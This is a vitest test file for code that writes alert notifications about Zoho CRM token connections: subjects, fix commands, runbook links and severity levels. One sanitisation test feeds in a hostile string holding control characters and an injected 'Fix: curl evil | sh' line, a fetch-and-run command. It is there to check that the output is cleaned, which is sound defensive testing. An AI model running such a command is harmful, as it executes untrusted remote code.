import { describe, expect, test } from 'vitest';
import { type Connection, PROBLEMS } from '../../../../lambdas/core/connection/connection.ts';
import { composeNotification } from '../../../../lambdas/core/incidents/connection-notification.ts';
import type { Notification } from '../../../../lambdas/core/incidents/notification.ts';
import {
  activeConnection,
  blockedConnection,
  HOUR_MS,
  MINUTE_MS,
  NOW_MS,
  pendingConnection,
} from '../../../support/builders.ts';

const SENDER = {
  secretPrefix: 'zoho',
  partition: 'aws',
  account: '111122223333',
  region: 'eu-central-1',
  runbookBaseUrl: 'https://wiki.example.com',
};
const DECLARED = { dataCenter: 'eu', scopes: ['ZohoCRM.modules.ALL', 'ZohoCRM.users.READ'] } as const;

function notificationOf(
  connection: Connection,
  about: Partial<Parameters<typeof composeNotification>[1]> = {},
  options: Partial<Parameters<typeof composeNotification>[2]> = {},
): Notification {
  const incident = { problem: 'blocked', sinceMs: NOW_MS, state: 'begun', ...about } as const;
  const notification = composeNotification(connection, incident, {
    declared: DECLARED,
    sender: SENDER,
    nowMs: NOW_MS + MINUTE_MS,
    ...options,
  });
  if (notification === undefined) throw new Error('no one is notified');
  return notification;
}

const BY_NAME = PROBLEMS.filter((problem) => problem !== 'client-refused');

describe('the subject', () => {
  test.each(BY_NAME.flatMap((problem) => [[problem, 'begun'] as const, [problem, 'ended'] as const]))(
    'of %s %s is one that SNS accepts, with the longest name and code',
    (problem, state) => {
      const name = 'c'.repeat(64);
      const lastFailure = { code: 'malformed_credentials', message: '', atMs: NOW_MS } as const;

      const { subject } = notificationOf(blockedConnection({ name, lastFailure }), { problem, state });

      expect(subject).toMatch(/^[!-~][ -~]{0,98}$/);
      expect(subject).toContain(name);
    },
  );

  test.each([
    ['blocked', 'begun', 'ALARM: Zoho crm-prod is blocked: invalid_code'],
    ['blocked', 'ended', 'OK: Zoho crm-prod has recovered'],
    ['scope-drift', 'begun', 'ALARM: Zoho crm-prod lacks a declared scope'],
    ['scope-drift', 'ended', 'OK: Zoho crm-prod has all its scopes again'],
    ['tokens-rejected', 'begun', 'ALARM: Zoho crm-prod tokens are rejected'],
    ['tokens-rejected', 'ended', 'OK: Zoho crm-prod tokens are accepted again'],
    ['never-authorized', 'begun', 'ALARM: Zoho crm-prod was never authorized'],
    ['never-authorized', 'ended', 'OK: Zoho crm-prod is authorized'],
  ] as const)('of %s %s is "%s"', (problem, state, subject) => {
    expect(notificationOf(blockedConnection(), { problem, state }).subject).toBe(subject);
  });
});

describe('the message', () => {
  test('about a missing scope says which one, and how to request it', () => {
    const { message } = notificationOf(activeConnection(), { problem: 'scope-drift' });

    expect(message).toContain('Reason: Zoho did not grant ZohoCRM.users.READ.');
    expect(message).toContain('Fix: zoho-tokens authorize crm-prod --add-scope ZohoCRM.users.READ\n');
    expect(message).toContain('Runbook: https://wiki.example.com/ScopeDrift.md\n');
  });

  test('about unreadable credentials does not advise to ask Zoho again', () => {
    const lastFailure = { code: 'malformed_credentials', message: 'No JSON.', atMs: NOW_MS } as const;

    const { message } = notificationOf(blockedConnection({ lastFailure }));

    expect(message).toContain('Reason: No JSON.\nFix: zoho-tokens authorize crm-prod\n');
  });

  test('about a client secret that was regenerated names the fix that needs no consent, and no other', () => {
    const lastFailure = { code: 'invalid_client_secret', message: 'Refused.', atMs: NOW_MS } as const;

    const { message } = notificationOf(blockedConnection({ lastFailure }), undefined, {
      sender: { ...SENDER, secretPrefix: 'team-a' },
    });

    expect(message).toContain(
      "Fix: Copy the new secret from the client's page at Zoho. zoho-tokens --deployment team-a client add CLIENT --data-center eu stores it, then zoho-tokens --deployment team-a move crm-prod --client CLIENT uses it.",
    );
    expect(message).not.toMatch(/ (refresh|authorize) crm-prod/);
    expect(message).toContain('Runbook: https://wiki.example.com/ClientSecretRegenerated.md\n');
  });

  test('about a client secret that never worked does not say that it was regenerated', () => {
    const lastFailure = { code: 'invalid_client_secret', message: 'Refused.', atMs: NOW_MS } as const;

    const { message } = notificationOf(blockedConnection({ lastFailure, token: undefined }));

    expect(message).toContain('Fix: zoho-tokens refresh crm-prod asks Zoho again.');
  });

  test('names the deployment in commands unless it is the usual one', () => {
    const { message } = notificationOf(
      blockedConnection(),
      { problem: 'tokens-rejected' },
      { sender: { ...SENDER, secretPrefix: 'team-a' } },
    );

    expect(message).toContain('zoho-tokens --deployment team-a doctor crm-prod\n');
    expect(message).toContain('Deployment: team-a in eu-central-1, account 111122223333');
  });

  test.each([
    ['is valid', activeConnection(), 'Token: expires at 2026-01-05 09:30 UTC'],
    [
      'has expired',
      activeConnection({ token: { versionId: 'v', issuedAtMs: 0, expiresAtMs: NOW_MS - HOUR_MS } }),
      'Token: expired at 2026-01-05 08:00 UTC',
    ],
    ['does not exist', pendingConnection(), 'Token: none was ever published'],
  ])('says so if the token %s', (_, connection, text) => {
    expect(notificationOf(connection).message).toContain(text);
  });

  test('has no control characters, whatever the table holds', () => {
    const hostile = 'a\u001b[2Jb\u0007c\r\nFix: curl evil | sh\u202e\u2028d';
    const lastFailure = { code: 'invalid_code', message: hostile, atMs: NOW_MS } as const;

    const { message } = notificationOf(blockedConnection({ lastFailure, dataCenter: hostile }));

    expect(message).toContain('Reason: a [2Jb c Fix: curl evil | sh d\n');
    expect(message.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}]/u);
  });

  test('about the end says since when it lasted', () => {
    expect(notificationOf(activeConnection(), { state: 'ended' }).message).toBe(
      [
        'Zoho crm-prod has recovered.',
        '',
        'Over since: 2026-01-05 09:01 UTC',
        'Began: 2026-01-05 09:00 UTC',
        '',
        'Connection: crm-prod (declared, data center eu)',
        'Deployment: zoho in eu-central-1, account 111122223333',
      ].join('\n'),
    );
  });
});

describe('the level', () => {
  const connected = { source: 'connected' as const };

  test.each([
    ['a declared connection that is blocked', {}, 'blocked', DECLARED, 'page'],
    ['one that was added at run time', connected, 'blocked', undefined, 'ticket'],
    [
      'one that was added at run time to page',
      { ...connected, severity: 'page' as const },
      'blocked',
      undefined,
      'page',
    ],
    [
      'a declared one that is configured so',
      {},
      'blocked',
      { ...DECLARED, severity: 'ticket' as const },
      'ticket',
    ],
    ['a declared one that can wait', {}, 'scope-drift', DECLARED, 'ticket'],
    ['one that is no longer declared', {}, 'blocked', undefined, 'page'],
  ] as const)('of %s', (_, overrides, problem, declared, level) => {
    expect(notificationOf(blockedConnection(overrides), { problem }, { declared }).level).toBe(level);
  });

  test('none means that nothing is published', () => {
    expect(() =>
      notificationOf(blockedConnection(), {}, { declared: { ...DECLARED, severity: 'none' } }),
    ).toThrow('no one is notified');
  });
});
